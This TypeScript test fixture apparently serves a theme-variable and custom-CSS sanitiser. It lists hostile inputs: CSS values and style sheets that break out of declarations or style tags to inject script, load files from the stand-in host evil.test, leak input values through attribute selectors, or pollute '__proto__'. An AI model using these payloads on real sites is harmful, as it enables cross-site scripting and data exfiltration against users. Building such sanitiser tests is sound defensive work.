/**
 * Values of a theme's variables that would break out of their declaration or style sheet, or load
 * an address.
 */
export const themeValues: Record<string, string> = {
  '--be-background': '255 255 255;}</style><script>window.__xss=1,alert(1)</script>',
  '--be-paper': '1 2 3) url(//evil.test/p',
  '--be-primary': 'url(//evil.test/u)',
  '--be-primary-light': '1 2 3; background-image: url(//evil.test/l)',
  '--be-primary-dark': '1 2 3}html{background:url(//evil.test/d)}',
  '--be-on-primary': 'expression(window.__xss=1)',
  '--be-divider': '1 2 3/**/url(//evil.test/c)',
  '--be-hover': 'var(--be-x,url(//evil.test/v))',
  '--be-selected': '\\75 rl(//evil.test/e)',
  '--be-danger': 'image-set("//evil.test/i" 1x)',
  '--be-positive': '1 2 3\u2028}',
  '--be-foreground-base': '1\n2\n3;}@import "//evil.test";',
  '--be-disabled': '-moz-element(#root)',
  '--be-text-main-opacity': '87%;}*{display:none',
  background: 'url(//evil.test/n)',
  '--be-x;}*{background:url(//evil.test/k)}': '1 2 3',
  '--be-y</style><script>window.__xss=1</script>': '1 2 3',
  ['__proto__']: '1 2 3',
};

/** Style sheets that load other sites' files, or change more than appearance. */
export const sheets = [
  '@import "//evil.test/x.css";',
  '@import url(//evil.test/x.css) layer(x);',
  'body{background:url(//evil.test/a)}',
  "input[value^='a']{background:url(//evil.test/?a)}",
  'body{background:u\\72l(//evil.test/b)}',
  'body{background:image-set("//evil.test/c" 1x)}',
  '@font-face{font-family:x;src:url(//evil.test/f)}body{font-family:x}',
  ':root{--x:url(//evil.test/d)}body{background:var(--x)}',
  'body{cursor:url(//evil.test/e),auto}',
  'li{list-style:url(//evil.test/g)}',
  'body::before{content:url(//evil.test/h)}',
  'body{border-image:url(//evil.test/i) 1}',
  'body{filter:url(//evil.test/j#x)}',
  'body{mask:url(//evil.test/k)}',
  '@media all{@supports (color:red){body{background:url(//evil.test/l)}}}',
  'body{& main{background:url(//evil.test/m)}}',
  '@layer x{body{background:url(//evil.test/n)}}',
  'body{behavior:url(//evil.test/o);-moz-binding:url(//evil.test/o)}',
  'body{width:expression(window.__xss=1)}',
  '</style><script>window.__xss=1</script>',
  '<img src=x onerror=window.__xss=1>',
  'body{background:url("javascript:window.__xss=1")}',
  'body{background:src("//evil.test/p")}',
  '@property --y{syntax:"<url>";inherits:true;initial-value:url(//evil.test/q)}body{background:var(--y)}',
  '@keyframes k{from{background:url(//evil.test/r)}}body{animation:k 9s}',
  'body{shape-outside:url(//evil.test/s);float:left}',
];
